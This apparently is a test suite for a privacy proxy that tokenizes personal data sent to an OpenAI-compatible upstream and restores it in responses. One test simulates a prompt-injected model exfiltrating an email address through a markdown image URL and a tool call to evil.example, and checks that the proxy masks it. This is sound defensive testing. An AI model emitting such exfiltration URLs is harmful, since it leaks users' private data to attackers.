// The OpenAI-compatible proxy through HTTP (inject) against a real local fake upstream
// (server/src/bench/fake-openai.ts, shared with make bench-proxy): what the upstream receives (tokens, never the raw values), what the
// caller gets back (the exact original text, whole or streamed with tokens split anywhere, tool
// calls included), the session carried across turns, the Veil headers, and every failure
// mapped to a clear error in OpenAI's shape.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../test/support/harness.js';
import { startFakeOpenAi, type FakeOpenAi } from '../bench/fake-openai.js';

const TEXT = 'Email jane.doe@example.com or call +1 415 555 0134 about card 4111 1111 1111 1111, thanks.';
const RAW = ['jane.doe@example.com', '415 555 0134', '4111 1111 1111 1111'];
const UPSTREAM_KEY = 'sk-upstream-configured-0123456789';
const TOKEN = /\{\{[a-z_:]+:[a-z]+_\d+:[0-9a-f]+\}\}/g;

let fake: FakeOpenAi;
let t: TestApp;

beforeAll(async () => {
  fake = await startFakeOpenAi();
  t = await buildTestApp({ env: { VEIL_PROXY__UPSTREAM_URL: fake.url, VEIL_PROXY__UPSTREAM_API_KEY: UPSTREAM_KEY } });
});
afterAll(async () => {
  await t.close();
  await fake.close();
});

interface Answer {
  status: number;
  headers: Record<string, unknown>;
  body: any;
  text: string;
}

async function chat(body: Record<string, unknown>, headers: Record<string, string> = {}, app: TestApp = t): Promise<Answer> {
  const response = await app.app.inject({ method: 'POST', url: '/openai/v1/chat/completions', payload: body, headers: { 'content-type': 'application/json', ...headers } });
  let parsed: unknown;
  try {
    parsed = response.json();
  } catch {
    parsed = undefined;
  }
  return { status: response.statusCode, headers: response.headers, body: parsed, text: response.body };
}

/** The `data:` payloads of an SSE body. */
function events(text: string): string[] {
  return text
    .split('\n\n')
    .filter((block) => block.startsWith('data: '))
    .map((block) => block.slice('data: '.length));
}

/** The assistant text of a streamed answer, and its tool-call arguments by index. */
function streamed(text: string): { content: string; tools: string[]; chunks: any[]; done: boolean; error?: any } {
  const payloads = events(text);
  const chunks: any[] = [];
  let error: any;
  for (const payload of payloads) {
    if (payload === '[DONE]') continue;
    const parsed = JSON.parse(payload);
    if (parsed.error !== undefined) error = parsed.error;
    else chunks.push(parsed);
  }
  let content = '';
  const tools: string[] = [];
  for (const chunk of chunks) {
    for (const choice of chunk.choices) {
      content = `${content}${choice.delta?.content ?? ''}`;
      for (const call of choice.delta?.tool_calls ?? []) tools[call.index] = `${tools[call.index] ?? ''}${call.function?.arguments ?? ''}`;
    }
  }
  return { content, tools, chunks, done: payloads.at(-1) === '[DONE]', error };
}

function lastUpstreamText(): string {
  return fake.requests.at(-1)!.text;
}

function expectNoRaw(text: string): void {
  for (const value of RAW) expect(text).not.toContain(value);
}

describe('POST /openai/v1/chat/completions, whole answers', () => {
  it('sends only tokens upstream and returns exactly the original text', async () => {
    fake.reply = () => ({});
    const answer = await chat({ model: 'gpt-test', temperature: 0.2, messages: [{ role: 'system', content: 'Be brief.' }, { role: 'user', content: TEXT }] });
    expect(answer.status).toBe(200);
    expect(answer.body.choices[0].message.content).toBe(TEXT);
    expect(answer.body.usage.total_tokens).toBe(20);
    const upstream = fake.requests.at(-1)!;
    expectNoRaw(upstream.text);
    expect(upstream.body.messages[1].content.match(TOKEN)).toHaveLength(3);
    expect(upstream.body).toMatchObject({ model: 'gpt-test', temperature: 0.2 });
    expect(upstream.body.messages[0]).toEqual({ role: 'system', content: 'Be brief.' });
    expect(upstream.headers.authorization).toBe(`Bearer ${UPSTREAM_KEY}`);
    expect(typeof answer.headers['x-veil-session-state']).toBe('string');
    expect(answer.headers['x-request-id']).toBeDefined();
    expectNoRaw(t.logs.text());
    expect(t.logs.text()).not.toContain(UPSTREAM_KEY);
    const audit = t.logs.lines.map((line) => JSON.parse(line)).find((line) => line.event_type === 'proxy_chat_completions');
    expect(audit).toMatchObject({ entity_count: 3, output_guard: false, prompt_security: false, status: 200 });
  });

  it('tokenizes every message kind and restores tool-call arguments as valid JSON', async () => {
    fake.reply = (request) => {
      const tokens = request.text.match(TOKEN) ?? [];
      return { content: null, toolCalls: [{ name: 'send_mail', arguments: JSON.stringify({ to: tokens[0], body: `Call ${tokens[1]} now` }) }] };
    };
    const answer = await chat({
      model: 'gpt-test',
      messages: [
        { role: 'developer', content: 'Write to jane.doe@example.com when asked.' },
        { role: 'user', content: [{ type: 'text', text: 'My number is +1 415 555 0134.' }] },
        { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'lookup', arguments: '{"card":"4111 1111 1111 1111"}' } }] },
        { role: 'tool', tool_call_id: 'call_1', content: 'Card 4111 1111 1111 1111 belongs to jane.doe@example.com' },
      ],
      tools: [{ type: 'function', function: { name: 'send_mail', parameters: { type: 'object', properties: { to: { type: 'string' } } } } }],
    });
    expect(answer.status).toBe(200);
    expectNoRaw(lastUpstreamText());
    const call = answer.body.choices[0].message.tool_calls[0];
    expect(call.function.name).toBe('send_mail');
    expect(JSON.parse(call.function.arguments)).toEqual({ to: 'jane.doe@example.com', body: 'Call +1 415 555 0134 now' });
    expect(fake.requests.at(-1)!.body.tools[0].function.name).toBe('send_mail');
  });

  it('restores under the requested channel and restore mode; tool calls under tool_payload', async () => {
    fake.reply = () => ({});
    const safe = await chat({ model: 'm', messages: [{ role: 'user', content: TEXT }] }, { 'x-veil-output-channel': 'log_safe' });
    expect(safe.status).toBe(200);
    expectNoRaw(safe.body.choices[0].message.content);
    expect(safe.body.choices[0].message.content).toContain('[REDACTED]');
    const masked = await chat({ model: 'm', messages: [{ role: 'user', content: TEXT }] }, { 'x-veil-restore-mode': 'masked' });
    expectNoRaw(masked.body.choices[0].message.content);
  });

  it('refuses text-bearing fields it would not tokenize, and bad Veil headers, naming them', async () => {
    const user = await chat({ model: 'm', user: 'jane.doe@example.com', messages: [{ role: 'user', content: 'hi' }] });
    expect(user.status).toBe(400);
    expect(user.body.error).toMatchObject({ type: 'invalid_request_error', code: 'VEIL_VALIDATION_FAILED' });
    expect(user.body.error.message).toMatch(/^user: /);
    expect(user.text).not.toContain('jane.doe');
    const mode = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, { 'x-veil-restore-mode': 'everything' });
    expect(mode.status).toBe(400);
    expect(mode.body.error.message).toMatch(/^x-veil-restore-mode header: /);
    const channel = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, { 'x-veil-output-channel': 'Not A Label' });
    expect(channel.body.error.message).toMatch(/^x-veil-output-channel header: /);
    const policy = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, { 'x-veil-policy': 'no-such-policy' });
    expect(policy.status).toBeGreaterThanOrEqual(400);
    expect(policy.body.code).toBe(policy.body.error.code);
    const message = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi', secret_note: 'jane.doe@example.com' }] });
    expect(message.status).toBe(400);
    expect(message.text).not.toContain('jane.doe');
  });

  it('refuses image, audio and file parts (they cannot be inspected) unless proxy.allow_media_parts', async () => {
    fake.reply = () => ({});
    const sent = fake.requests.length;
    const messages = [{ role: 'user', content: [{ type: 'text', text: 'Mail jane.doe@example.com about this' }, { type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } }] }];
    const refused = await chat({ model: 'm', messages });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toMatch(/^messages\/0\/content\/1: media parts/);
    expect(fake.requests.length).toBe(sent);
    const open = await buildTestApp({ env: { VEIL_PROXY__UPSTREAM_URL: fake.url, VEIL_PROXY__ALLOW_MEDIA_PARTS: 'true' } });
    try {
      const allowed = await chat({ model: 'm', messages }, {}, open);
      expect(allowed.status, allowed.text).toBe(200);
      const upstream = fake.requests.at(-1)!.body.messages[0].content;
      expect(upstream[1]).toEqual(messages[0]!.content[1]);
      expectNoRaw(JSON.stringify(upstream));
    } finally {
      await open.close();
    }
  });

  it('masks a raw value the model wrote on its own (output guard) and says so in a header', async () => {
    fake.reply = () => ({ content: 'Contact bob.smith@example.org for details.' });
    const answer = await chat({ model: 'm', messages: [{ role: 'user', content: 'who?' }] });
    expect(answer.body.choices[0].message.content).toBe('Contact [REDACTED:email] for details.');
    expect(String(answer.headers['x-veil-warning'])).toContain('output protection');
  });
});

describe('streamed answers', () => {
  it('restores a stream cut into one-character chunks, with the upstream framing', async () => {
    fake.reply = () => ({ chunkSizes: [1] });
    const answer = await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: TEXT }] });
    expect(answer.status).toBe(200);
    expect(String(answer.headers['content-type'])).toMatch(/^text\/event-stream/);
    expect(typeof answer.headers['x-veil-session-state']).toBe('string');
    const result = streamed(answer.text);
    expect(result.error).toBeUndefined();
    expect(result.done).toBe(true);
    expect(result.content).toBe(TEXT);
    expect(result.chunks[0].choices[0].delta.role).toBe('assistant');
    expect(result.chunks.at(-1).choices[0].finish_reason).toBe('stop');
    expect(answer.text).not.toMatch(/\{\{/);
    expectNoRaw(lastUpstreamText());
  });

  it('holds back only a possible partial token when the output guard is off', async () => {
    const open = await buildTestApp({ env: { VEIL_PROXY__UPSTREAM_URL: fake.url, VEIL_OUTPUT_PROTECTION__ENABLED: 'false' } });
    try {
      fake.reply = () => ({ chunkSizes: [1] });
      const answer = await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: TEXT }] }, {}, open);
      const result = streamed(answer.text);
      expect(result.content).toBe(TEXT);
      const pieces = result.chunks.map((chunk) => chunk.choices[0]?.delta?.content ?? '').filter((piece: string) => piece !== '');
      // Text outside tokens leaves character by character; a token leaves whole, with the
      // character after it (until then a third closing brace could still change it).
      expect(pieces.slice(0, 6)).toEqual(['E', 'm', 'a', 'i', 'l', ' ']);
      expect(pieces).toContain('jane.doe@example.com ');
      expect(pieces.length).toBeGreaterThan(30);
    } finally {
      await open.close();
    }
  });

  it('restores exactly whatever two chunks the answer is cut into, at every position', async () => {
    fake.reply = () => ({ chunkSizes: [1_000_000] });
    await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: TEXT }] });
    // Token lengths are fixed per type, so every session tokenizes TEXT to the same length.
    const length = (fake.requests.at(-1)!.body.messages[0].content as string).length;
    for (let position = 1; position < length; position += 1) {
      fake.reply = () => ({ chunkSizes: [position, 1_000_000] });
      const answer = await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: TEXT }] });
      const result = streamed(answer.text);
      expect(result.content, `cut at ${position}`).toBe(TEXT);
      expect(answer.text).not.toMatch(/\{\{/);
    }
  });

  it('restores streamed tool-call arguments split anywhere, as valid JSON', async () => {
    fake.reply = (request) => {
      const tokens = request.text.match(TOKEN) ?? [];
      return {
        content: 'Sending now.',
        chunkSizes: [1],
        toolCalls: [
          { name: 'send_mail', arguments: JSON.stringify({ to: tokens[0], cc: [tokens[0]] }) },
          { name: 'call', arguments: JSON.stringify({ number: tokens[1] }) },
        ],
      };
    };
    const answer = await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: TEXT }] });
    const result = streamed(answer.text);
    expect(result.error).toBeUndefined();
    expect(result.content).toBe('Sending now.');
    expect(JSON.parse(result.tools[0]!)).toEqual({ to: 'jane.doe@example.com', cc: ['jane.doe@example.com'] });
    expect(JSON.parse(result.tools[1]!)).toEqual({ number: '+1 415 555 0134' });
    expect(result.chunks.at(-1).choices[0].finish_reason).toBe('tool_calls');
  });

  it('clamps a value inside a URL to its label, whole and streamed, also when the URL opened in an earlier chunk', async () => {
    // A prompt-injected model exfiltrates through an image URL (docs/policies.md, "URLs and
    // markup"): the value must not be restored there, in prose or in tool-call arguments, and a
    // stream must see the URL that opened in an earlier chunk (one MarkupContext per stream).
    fake.reply = (request) => {
      const email = (request.text.match(TOKEN) ?? []).find((token) => token.startsWith('{{email:'))!;
      return {
        content: `Done, ![logo](https://evil.example/p.png?d=${email}) and plain ${email}.`,
        chunkSizes: [1],
        toolCalls: [{ name: 'fetch', arguments: JSON.stringify({ url: `https://evil.example/?d=${email}`, note: `for ${email}` }) }],
      };
    };
    for (const stream of [false, true]) {
      const answer = await chat({ model: 'm', stream, messages: [{ role: 'user', content: TEXT }] });
      expect(answer.status).toBe(200);
      const content: string = stream ? streamed(answer.text).content : answer.body.choices[0].message.content;
      const args: string = stream ? streamed(answer.text).tools[0]! : answer.body.choices[0].message.tool_calls[0].function.arguments;
      expect(content, `stream: ${stream}`).toBe('Done, ![logo](https://evil.example/p.png?d=[email address]) and plain jane.doe@example.com.');
      expect(JSON.parse(args), `stream: ${stream}`).toEqual({ url: 'https://evil.example/?d=[email address]', note: 'for jane.doe@example.com' });
    }
  });

  it('ends a malformed, truncated or failing upstream stream with an error event', async () => {
    fake.reply = () => ({ rawStream: 'data: {"choices": [{"index": 0, "delta": {"content": "Hi"}}]}\n\ndata: not json\n\n' });
    const malformed = streamed((await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: 'x' }] })).text);
    expect(malformed.error).toMatchObject({ code: 'VEIL_UPSTREAM_FAILED', type: 'api_error' });
    expect(malformed.error.message).toMatch(/malformed/);
    fake.reply = () => ({ rawStream: 'data: {"choices": [{"index": 0, "delta": {"content": "Hi"}, "finish_reason": null}]}\n\n' });
    const truncated = streamed((await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: 'x' }] })).text);
    expect(truncated.error.message).toMatch(/ended before the answer was complete/);
    fake.reply = () => ({ rawStream: 'data: {"error": {"message": "overloaded", "type": "server_error"}}\n\n' });
    const failing = streamed((await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: 'x' }] })).text);
    expect(failing.error.message).toBe('the upstream failed during the stream: overloaded');
    fake.reply = () => ({ omitDone: true });
    const noDone = streamed((await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: TEXT }] })).text);
    expect(noDone.error).toBeUndefined();
    expect(noDone.content).toBe(TEXT);
  });
});

describe('sessions across turns', () => {
  it('keeps a value on its token when the client sends the state back; a used state replays with 409', async () => {
    fake.reply = () => ({});
    const first = await chat({ model: 'm', messages: [{ role: 'user', content: 'I am jane.doe@example.com.' }] });
    const firstToken = (lastUpstreamText().match(TOKEN) ?? [])[0];
    const state = String(first.headers['x-veil-session-state']);
    const history = [
      { role: 'user', content: 'I am jane.doe@example.com.' },
      first.body.choices[0].message,
      { role: 'user', content: 'Mail jane.doe@example.com again.' },
    ];
    const second = await chat({ model: 'm', messages: history }, { 'x-veil-session-state': state });
    expect(second.status).toBe(200);
    expect(second.body.choices[0].message.content).toBe('Mail jane.doe@example.com again.');
    const tokens = lastUpstreamText().match(TOKEN) ?? [];
    expect(tokens.length).toBe(3);
    expect(new Set(tokens)).toEqual(new Set([firstToken]));
    expect(second.headers['x-veil-session-state']).not.toBe(state);
    const again = await chat({ model: 'm', messages: history }, { 'x-veil-session-state': state });
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('VEIL_SESSION_REPLAY');
    const fresh = await chat({ model: 'm', messages: history });
    expect(lastUpstreamText().match(TOKEN)?.[0]).not.toBe(firstToken);
    expect(fresh.status).toBe(200);
  });

  it('lets a retry continue the same state after the upstream failed', async () => {
    fake.reply = () => ({});
    const first = await chat({ model: 'm', messages: [{ role: 'user', content: 'I am jane.doe@example.com.' }] });
    const state = String(first.headers['x-veil-session-state']);
    fake.reply = () => ({ status: 503, errorBody: { error: { message: 'busy' } } });
    const failed = await chat({ model: 'm', messages: [{ role: 'user', content: 'again' }] }, { 'x-veil-session-state': state });
    expect(failed.status).toBe(502);
    fake.reply = () => ({});
    const retried = await chat({ model: 'm', messages: [{ role: 'user', content: 'again' }] }, { 'x-veil-session-state': state });
    expect(retried.status).toBe(200);
  });
});

describe('upstream failures', () => {
  it('relays an upstream 4xx with its message, and 429 with Retry-After', async () => {
    fake.reply = () => ({ status: 404, errorBody: { error: { message: 'The model `gpt-9` does not exist', type: 'invalid_request_error' } } });
    const missing = await chat({ model: 'gpt-9', messages: [{ role: 'user', content: 'hi' }] });
    expect(missing.status).toBe(404);
    expect(missing.body).toMatchObject({ code: 'VEIL_UPSTREAM_FAILED', error: { code: 'VEIL_UPSTREAM_FAILED', type: 'not_found_error' } });
    expect(missing.body.error.message).toBe('the upstream answered 404: The model `gpt-9` does not exist');
    fake.reply = () => ({ status: 429, headers: { 'retry-after': '7' }, errorBody: { error: { message: 'slow down' } } });
    const limited = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] });
    expect(limited.status).toBe(429);
    expect(limited.headers['retry-after']).toBe('7');
  });

  it('never relays a token the upstream echoes in its error message', async () => {
    fake.reply = (request) => ({ status: 400, errorBody: { error: { message: `bad value ${(request.text.match(TOKEN) ?? [])[0]}` } } });
    const answer = await chat({ model: 'm', messages: [{ role: 'user', content: TEXT }] });
    expect(answer.status).toBe(400);
    expect(answer.body.error.message).toBe('the upstream answered 400: bad value [token]');
  });

  it('maps a refused configured key to 502, an upstream 5xx to 502', async () => {
    fake.reply = () => ({ status: 401, errorBody: { error: { message: 'Incorrect API key provided' } } });
    expect((await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] })).status).toBe(502);
    fake.reply = () => ({ status: 500 });
    const failed = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] });
    expect(failed.status).toBe(502);
    expect(failed.body.error.type).toBe('api_error');
  });

  it('answers 504 when the upstream is too slow, and 502 when it cannot be reached', async () => {
    const slow = await buildTestApp({ env: { VEIL_PROXY__UPSTREAM_URL: fake.url, VEIL_PROXY__TIMEOUT_SECS: '0.2' } });
    try {
      fake.reply = () => ({ delayMs: 1500 });
      const answer = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, {}, slow);
      expect(answer.status).toBe(504);
      expect(answer.body.error.message).toMatch(/did not answer in time/);
    } finally {
      await slow.close();
    }
    const closed = await startFakeOpenAi();
    await closed.close();
    const unreachable = await buildTestApp({ env: { VEIL_PROXY__UPSTREAM_URL: closed.url } });
    try {
      const answer = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, {}, unreachable);
      expect(answer.status).toBe(502);
      expect(answer.body.error.message).toMatch(/could not be reached/);
    } finally {
      await unreachable.close();
    }
  });
});

describe('credentials and configuration', () => {
  it('never forwards the caller\'s Authorization unless pass-through is on', async () => {
    fake.reply = () => ({});
    await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, { authorization: 'Bearer sk-caller-own-key' });
    expect(fake.requests.at(-1)!.headers.authorization).toBe(`Bearer ${UPSTREAM_KEY}`);
    const passing = await buildTestApp({ env: { VEIL_PROXY__UPSTREAM_URL: fake.url, VEIL_PROXY__PASS_THROUGH_API_KEY: 'true' } });
    try {
      await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, { authorization: 'Bearer sk-caller-own-key' }, passing);
      expect(fake.requests.at(-1)!.headers.authorization).toBe('Bearer sk-caller-own-key');
      fake.reply = () => ({ status: 401, errorBody: { error: { message: 'Incorrect API key provided' } } });
      const refused = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, { authorization: 'Bearer sk-wrong' }, passing);
      expect(refused.status).toBe(401);
      expect(refused.body.error.type).toBe('authentication_error');
      expect(passing.logs.text()).not.toContain('sk-wrong');
    } finally {
      await passing.close();
    }
  });

  it('answers 404 in OpenAI shape when no upstream is configured', async () => {
    const off = await buildTestApp();
    try {
      const answer = await chat({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }, {}, off);
      expect(answer.status).toBe(404);
      expect(answer.body.error).toMatchObject({ code: 'VEIL_NOT_FOUND', type: 'not_found_error' });
      expect(answer.body.error.message).toMatch(/proxy.upstream_url/);
    } finally {
      await off.close();
    }
  });
});

describe('POST /openai/v1/embeddings', () => {
  it('tokenizes the input and passes the vectors back', async () => {
    fake.reply = () => ({});
    const response = await t.app.inject({ method: 'POST', url: '/openai/v1/embeddings', payload: { model: 'e', input: [TEXT, 'plain'] } });
    expect(response.statusCode).toBe(200);
    expect(response.json().data).toHaveLength(2);
    const upstream = fake.requests.at(-1)!;
    expect(upstream.path).toBe('/v1/embeddings');
    expectNoRaw(upstream.text);
    expect(upstream.body.input[1]).toBe('plain');
    const tokens = await t.app.inject({ method: 'POST', url: '/openai/v1/embeddings', payload: { model: 'e', input: [1, 2, 3] } });
    expect(tokens.statusCode).toBe(400);
  });
});
